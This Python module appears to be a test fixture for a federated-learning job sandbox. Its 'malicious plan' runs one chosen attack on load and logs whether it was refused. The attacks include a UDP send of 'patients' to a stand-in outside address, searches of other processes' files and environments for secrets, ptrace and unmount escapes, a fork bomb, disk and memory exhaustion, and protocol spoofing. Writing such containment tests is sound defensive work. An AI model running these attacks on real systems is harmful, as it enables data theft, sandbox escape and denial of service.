"""The code of a malicious plan: a task that attacks when it is loaded, and says what came of it in the job's log.

Which attack is an option of the plan. Each does its worst and returns what it got; an exception is a refusal.
"""

import ctypes
import json
import os
import signal
import socket
import sys
import time
from collections.abc import Sequence
from dataclasses import replace
from typing import Any, NoReturn

import numpy as np

from wardround.client.job import work
from wardround.client.job.messages import Answer, Fit, Request, encode_answer
from wardround.client.job.work import Work
from wardround.client.trainer.tasks.tabular import TabularClassifier
from wardround.client.trainer.torch_trainer import TorchTrainer
from wardround.local_channel import Shared
from wardround.orders import FitJob, LocalResult
from wardround.plan import Plan
from wardround.task import Task
from wardround.vector import F32

_libc = ctypes.CDLL(None, use_errno=True)


def _call(name: str, *arguments: object) -> int:
    result: int = getattr(_libc, name)(*arguments)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def connect(options: Any) -> object:
    with socket.create_connection(("127.0.0.1", options["port"]), timeout=5) as sock:
        return sock.recv(100).decode()


def connect_elsewhere(options: Any) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return sock.sendto(b"patients", ("192.0.2.1", 9))


def connect_to_host(options: Any) -> object:
    return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).fileno()


def connect_netlink(options: Any) -> object:
    return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).fileno()


def connect_abstract(options: Any) -> object:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\0" + options["name"])
        return sock.recv(100).decode()


def connect_by_path(options: Any) -> object:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(options["path"])
        return sock.recv(100).decode()


def io_uring(options: Any) -> object:
    return _call("syscall", ctypes.c_long(425), 8, (ctypes.c_char * 256)())


def read(options: Any) -> object:
    with open(options["path"]) as file:
        return file.read()


def search(options: Any) -> object:
    """Any file with the key's name, anywhere; also through the folders of processes."""
    roots = ["/", *(f"/proc/{name}/root" for name in _processes()), *(f"/proc/{name}/cwd" for name in _processes())]
    found = []
    for root in roots:
        for folder, _, files in os.walk(root):
            found += [os.path.join(folder, name) for name in files if name == options["name"]]
    if not found:
        raise FileNotFoundError(2, "not a trace")
    return found


def open_files_of_others(options: Any) -> object:
    found = [os.readlink(f"/proc/{name}/fd/{one}") for name in _processes() for one in os.listdir(f"/proc/{name}/fd")]
    return found if any(options["name"] in one for one in found) else _refused("none of them")


def _processes() -> list[str]:
    try:
        return [name for name in os.listdir("/proc") if name.isdecimal() and int(name) != os.getpid()]
    except OSError:
        return []


def _refused(why: str) -> NoReturn:
    raise PermissionError(1, why)


def trace(options: Any) -> object:
    return _call("ptrace", ctypes.c_long(16), ctypes.c_long(options["pid"]), None, None)  # PTRACE_ATTACH


def read_memory(options: Any) -> object:
    with open(f"/proc/{options['pid']}/environ", "rb") as file:
        return file.read().decode(errors="replace")


def kill(options: Any) -> object:
    os.kill(options["pid"], signal.SIGKILL)
    return "killed"


def kill_all(options: Any) -> object:
    os.kill(-1, signal.SIGTERM)  # all that it may; the test's own user must not be hit
    os.kill(0, signal.SIGCONT)
    return "sent"


def parents(options: Any) -> object:
    return [os.getppid(), os.getpid()]


def take_off_cover(options: Any) -> object:
    return _call("umount2", options["path"].encode(), 2)


def take_off_cover_as_root(options: Any) -> object:
    """In namespaces of its own, which a process of one thread may make, it would have every capability."""
    out, told = os.pipe()
    if os.fork() == 0:
        try:
            step = "unshare"
            _call("unshare", 0x10000000 | 0x00020000)
            step = "umount"
            _call("umount2", options["path"].encode(), 2)
            step = "done"
        except OSError as error:
            os.write(told, f"{step} {error.errno}".encode())
        os._exit(0)
    os.close(told)
    os.wait()
    said = os.read(out, 100).decode().split()
    if not said:
        return "taken off"
    raise OSError(int(said[1]), said[0])


def take_off_cover_in_child(options: Any) -> object:
    _call("syscall", ctypes.c_long(56), 0x10000000 | 0x00020000 | 17, 0, 0, 0, 0)
    return "a namespace"


def make_writable(options: Any) -> object:
    return _call("mount", b"none", options["path"].encode(), None, 32 | 4096, None)


def write(options: Any) -> object:
    with open(options["path"], "a") as file:
        file.write("x")
    return "written"


def write_anywhere(options: Any) -> object:
    """Every folder in which a file can be made, outside its own."""
    found = []
    for folder, folders, _ in os.walk("/"):
        if folder == "/job":
            folders.clear()
            continue
        try:
            with open(os.path.join(folder, "mark"), "w"):
                found.append(folder)
        except OSError:
            pass
    return found


def read_the_table(options: Any) -> object:
    """What the plan does not name, an identifier for one: by its path, or where it may still be open."""
    for descriptor in range(4096):
        try:
            if options["holds"].encode() in os.pread(descriptor, 1 << 16, 0):
                return "open"
        except OSError:
            continue
    with open(options["path"]) as file:
        return file.read()


def fork_bomb(options: Any) -> object:
    count = 0
    while count < 5000:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        count += 1
    return count


def take_memory(options: Any) -> object:
    return len(bytearray(options["size"]))


def fill_memory_files(options: Any) -> object:
    """Shared memory counts for no process: its size is bounded as a file's is."""
    descriptor = os.memfd_create("x")
    os.ftruncate(descriptor, options["size"])
    return "grown"


def fill_disk(options: Any) -> object:
    with open("big", "wb") as file:
        for _ in range(options["size"] >> 20):
            file.write(bytes(1 << 20))
    return "filled"


def fill_log(options: Any) -> object:
    for _ in range(options["size"] >> 10):
        sys.stdout.write("x" * 1024 + "\n")
    sys.stdout.flush()
    return "printed"


def leave_behind(options: Any) -> object:
    """A process that is nobody's child, in a session of its own, deaf, and not to die with its parent."""
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        if os.fork() == 0:
            _libc.prctl(1, 0, 0, 0, 0)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", options["mark"]])  # noqa: S606
        os._exit(0)
    os.wait()
    return "left"


def endless(options: Any) -> object:
    _libc.prctl(1, 0, 0, 0, 0)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(60)


def crash(options: Any) -> None:
    os.kill(os.getpid(), signal.SIGSEGV)


def exit_at_once(options: Any) -> None:
    os._exit(0)


def speak_nonsense(options: Any) -> None:
    os.write(3, options["data"].encode())
    time.sleep(600)


def _channel() -> socket.socket:
    return socket.socket(fileno=os.dup(3))


def _message(header: Any, count: int = 0) -> bytes:
    data = header if isinstance(header, bytes) else json.dumps(header).encode()
    return len(data).to_bytes(4, "little") + count.to_bytes(4, "little") + data


def answer_otherwise(options: Any) -> None:
    """Say something else in the place of the answer that is waited for."""
    _channel().sendall(_message(options["header"]))
    time.sleep(600)


def send_unsealed(options: Any) -> None:
    descriptor = os.memfd_create("x", os.MFD_ALLOW_SEALING)
    os.ftruncate(descriptor, 64)
    socket.send_fds(_channel(), [_message({"is": "loaded"}, 1)], [descriptor])
    os.ftruncate(descriptor, 0)
    time.sleep(600)


def send_huge_pages(options: Any) -> object:
    """The right size, sealed, but in pages that whoever reads them may be denied."""
    honest = Work.answer

    def answer(self: Work, request: Request, shared: Sequence[Shared]) -> tuple[Answer, list[Shared]]:
        found, made = honest(self, request, shared)
        if isinstance(request, Fit):
            descriptor = os.memfd_create("x", os.MFD_ALLOW_SEALING | os.MFD_HUGETLB)
            os.ftruncate(descriptor, size := os.fstat(descriptor).st_blksize)
            made[2] = Shared(descriptor, size, sealed=False)
        return found, made

    Work.answer = answer  # type: ignore[method-assign]
    return "armed"


def send_file(options: Any) -> None:
    descriptor = os.open(__file__, os.O_RDONLY)
    socket.send_fds(_channel(), [_message({"is": "loaded"}, 1)], [descriptor])
    time.sleep(600)


def send_many_descriptors(options: Any) -> None:
    descriptors = [os.dup(0) for _ in range(100)]
    socket.send_fds(_channel(), [_message({"is": "loaded"}, 100)], descriptors)
    time.sleep(600)


def answer_in_drops(options: Any) -> None:
    sock = _channel()
    for byte in _message({"is": "loaded"}):
        sock.sendall(bytes([byte]))
        time.sleep(1)


def lie_about_sizes(options: Any) -> object:
    """From now on, what goes with an answer has other sizes than it should."""
    honest = Work.answer

    def answer(self: Work, request: Request, shared: Sequence[Shared]) -> tuple[Answer, list[Shared]]:
        found, made = honest(self, request, shared)
        size = options["sizes"].get(type(request).__name__)
        if size is not None:
            at, size = size
            made[at] = Shared.make(size)
        return found, made

    Work.answer = answer  # type: ignore[method-assign]
    return "armed"


def lie_about_numbers(options: Any) -> object:
    honest = encode_answer
    work.encode_answer = lambda answer: {**honest(answer), **options["fields"]}  # type: ignore[attr-defined]
    return "armed"


def stop_reading(options: Any) -> object:
    honest = encode_answer

    def encode(answer: Answer) -> dict[str, Any]:
        header = honest(answer)
        if header["is"] == "loaded":
            _channel().sendall(_message(header))
            time.sleep(600)
        return header

    work.encode_answer = encode  # type: ignore[attr-defined]
    return "armed"


def leave_behind_and_go_on(options: Any) -> object:
    leave_behind(options)
    return endless(options)


def keep_count(options: Any) -> object:
    """A trainer that keeps between rounds how often it trained."""
    honest = TorchTrainer.fit

    def fit(self: TorchTrainer, job: FitJob, model: F32) -> LocalResult:
        count = self.state["count"] if self.state else np.zeros(1, dtype=np.float32)
        result = honest(self, job, model)
        self.state = {"count": count + 1}
        return result

    TorchTrainer.fit = fit  # type: ignore[method-assign]
    return "armed"


def environment(options: Any) -> object:
    return dict(os.environ)


def several(options: Any) -> object:
    """Attacks one after another: what came of each, by a name that may say more after a space."""
    return {name: _tried(name, details) for name, details in options.items()}


def _tried(name: str, details: Any) -> dict[str, object]:
    try:
        return {"got": globals()[name.partition(" ")[0]](details)}
    except BaseException as error:
        found = {"refused": type(error).__name__, "errno": getattr(error, "errno", None)}
        return {**found, "at": getattr(error, "strerror", None)} if name.startswith("take_off_cover_as_root") else found


def nothing(options: Any) -> object:
    return "harmless"


def task(plan: Plan) -> Task:
    """The plan's task, after the attack."""
    options = plan.task.options
    result = _tried(str(options["attack"]), json.loads(str(options["details"])))
    print("ATTACK " + json.dumps(result), flush=True)
    return TabularClassifier(replace(plan, task=replace(plan.task, options={}, model="logistic")))
